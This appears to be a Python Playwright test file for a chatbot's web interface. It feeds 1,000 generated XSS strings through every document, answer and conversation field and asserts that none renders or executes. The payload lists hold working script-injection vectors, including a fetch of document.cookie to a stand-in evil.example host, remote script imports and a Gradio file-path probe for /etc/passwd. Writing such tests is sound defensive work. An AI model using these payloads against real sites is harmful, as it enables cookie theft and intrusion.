"""A thousand hostile strings through every field of the page: none runs, none asks another host."""

from __future__ import annotations

import itertools
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from browser import Paced, answered, listener, watched
from playwright.sync_api import Browser, Page, expect

from sourcebook.index import Document, Library, make_document
from sourcebook.rag import Chatbot, Settings
from sourcebook.rag.answer import Answer, Citation, Conflict, OtherSource, Sentence, Side
from sourcebook.rag.history.conversations import Conversations
from sourcebook.rag.testing import HashEmbedder
from sourcebook.ui.page.server import Server

pytestmark = pytest.mark.browser

RUN = (
    "window.hit=1",
    "fetch('//evil.example/?'+document.cookie)",
    "top.hit=1",
    "import('//evil.example/x.js')",
)
_BREAKS = (
    *("", '"', "'", "`", '">', "'>", "</p>", "</mark>", "</title>", "</style>", "</textarea>"),
    *("-->", "]]>", "\\", "&quot;>", "<br>\n", "*/", "?>", "%22%3E", "{{", "<!--"),
)
_BODIES = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<img src=//evil.example/p.png>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>@import '//evil.example/s.css';*{{background:url(//evil.example/b)}}</style>",
    "<a href=javascript:{run}>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "[x](javascript:{run}) ![x](//evil.example/i.png)",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "${{{run}}} {{{{constructor.constructor('{run}')()}}}} $$\\\\href{{javascript:{run}}}{{x}}$$",
    " onmouseover={run} onfocus={run} autofocus tabindex=1 x=",
    "<video><source onerror={run}></video>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "/gradio_api/proxy=https://evil.example/ /gradio_api/file=/etc/passwd",
)  # fmt: skip


def hostile() -> list[str]:
    """1,000 different strings."""
    items = dict.fromkeys(
        before + body.format(run=run)
        for run, before, body in itertools.product(RUN, _BREAKS, _BODIES)
    )
    return list(items)[:1000]


FIELDS = 8
"""Strings that one turn carries, each in another field."""


def turn(strings: Sequence[str], number: int) -> tuple[Document, Answer]:
    """A document and an answer about it, hostile in every field."""
    question, statement, title, name, source, quote, about, url = strings
    first, last = "First words. ", f" Last words {number}."
    document = make_document(
        first + quote + last,
        title=title,
        source=source,
        author=statement,
        published=datetime(2022, 1, 10, tzinfo=UTC),
        url=f"https://a.example/{url}" if number % 2 else None,
        path=f"folder/{name}",
    )
    end = document.text.rindex(last)
    place = ("p", document.text[len(first) : end], len(first), end)
    also = OtherSource(document, *place)
    cited = Citation(1, document, *place, also=(also,))
    good = Sentence(statement, 0, len(statement), (1,), 0.9, supported=True)
    bad = Sentence(
        about, len(statement) + 5, len(statement) + 5 + len(about), (), 0.1, False, (about,), quote
    )
    side = Side(statement, "yes", "exact", (cited,))
    other = Side(about, "no", "exact", (replace(cited, number=2),))
    return document, Answer(
        question=question,
        standalone_question=question,
        text=f"{statement} [1] {about}",
        sentences=(good, bad),
        citations=(cited,),
        abstained=False,
        confidence=0.5,
        conflicts=(Conflict(about, "claim", (side, other)),),
        reason=about,
    )


@pytest.fixture
def filled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Library]:
    """A library and its conversations, of nothing but hostile strings."""
    with Library.open(tmp_path_factory.mktemp("x") / "lib", embedder=HashEmbedder()) as library:
        strings = hostile()
        items = [
            turn(strings[i : i + FIELDS], n)
            for n, i in enumerate(range(0, len(strings) - FIELDS + 1, FIELDS))
        ]
        library.add_documents(document for document, _ in items)
        conversations = Conversations.open(library.folder)
        for chunk in range(0, len(items), 25):
            talk = conversations.begin(items[chunk][1].question)
            for number, (_, answer) in enumerate(items[chunk : chunk + 25], 1):
                conversations.ask(talk, number, answer.question)
                conversations.answer(talk, number, answer.to_dict())
                conversations.rate(talk, number, "down", answer.question)
        conversations.close()
        yield library


INSIDE = "#conversation, #sources, #talks, .sb-reader, .sb-bubble"
FOREIGN = (
    "script, img, svg, style, iframe, object, embed, link, base, meta, video, math,"
    " [onload], [onerror], [onfocus], [onmouseover], [ontoggle], [style*=evil]"
)


def harmless(page: Page) -> None:
    """Nothing of theirs became an element, and nothing of theirs was run."""
    assert page.locator(INSIDE).locator(FOREIGN).count() == 0
    assert page.evaluate("window.hit ?? null") is None


def test_there_are_a_thousand_of_them() -> None:
    assert len(set(hostile())) == 1000


def test_a_thousand_hostile_strings_run_nothing_and_reach_nobody(
    browser: Browser, filled: Library
) -> None:
    model = Paced()
    strings = hostile()
    model.says(" ".join(strings[:5]))
    chatbot = Chatbot(filled, model=model, settings=Settings(answer_tokens=500))
    with Server(filled, chatbot, listener()) as running:
        for page in watched(browser, running):
            page.get_by_role("button", name="Conversations", exact=True).click()
            rows = page.locator(".sb-talk")
            expect(rows).to_have_count(5)
            for row in range(5):
                rows.nth(row).locator(".sb-talk-open").click()
                expect(page.locator("#t25")).to_be_visible()
                expect(rows.nth(row).locator("[aria-current]")).to_have_count(1)
                harmless(page)
                seen = page.locator("#conversation").text_content() or ""
                assert "onerror=" in seen or "evil.example" in seen
                links = page.locator("#conversation a").evaluate_all(
                    "links => links.map((a) => a.getAttribute('href'))"
                )
                assert all(link.startswith("#t") for link in links)
                for mark in page.locator("#t25 .sb-mark a, #t12 .sb-mark a").all()[:4]:
                    mark.scroll_into_view_if_needed()
                    mark.dispatch_event("mouseover")
                    expect(page.locator(".sb-bubble")).to_be_visible()
                    harmless(page)
                    mark.dispatch_event("click")
                    expect(page.locator(".sb-article, .sb-article-note").first).to_be_visible()
                    harmless(page)
                    page.keyboard.press("Escape")
            # Typed and answered, searched for, and found in the list.
            for text in (strings[1], strings[500], strings[-1]):
                page.get_by_role("button", name="New conversation").click()
                expect(page.locator("#t1")).to_have_count(0)
                page.get_by_label("Search conversations").fill(text)
                page.get_by_label("Question").fill(text)
                page.get_by_role("button", name="Search only").click()
                expect(page.locator("#sources h2").first).to_contain_text("for “")
                harmless(page)
                page.get_by_role("button", name="Ask", exact=True).click()
                answered(page)
                harmless(page)
            for form in ("Markdown", "HTML", "JSON"):
                page.get_by_label("Search conversations").fill("")
                talk_row = rows.filter(has_text="25 questions").last
                talk_row.locator(".sb-talk-open").click()
                expect(page.locator("#t25")).to_be_visible()
                page.get_by_text("Export", exact=True).click()
                with page.expect_download() as waited:
                    page.get_by_role("button", name=form, exact=True).click()
                if form == "HTML":
                    exported = page.context.new_page()
                    exported.set_content(waited.value.path().read_text("utf-8"))
                    foreign_here = FOREIGN.replace("style, ", "").replace("meta, ", "")
                    assert exported.locator("body").locator(foreign_here).count() == 0
                    assert exported.evaluate("window.hit ?? null") is None
                    exported.close()
            harmless(page)
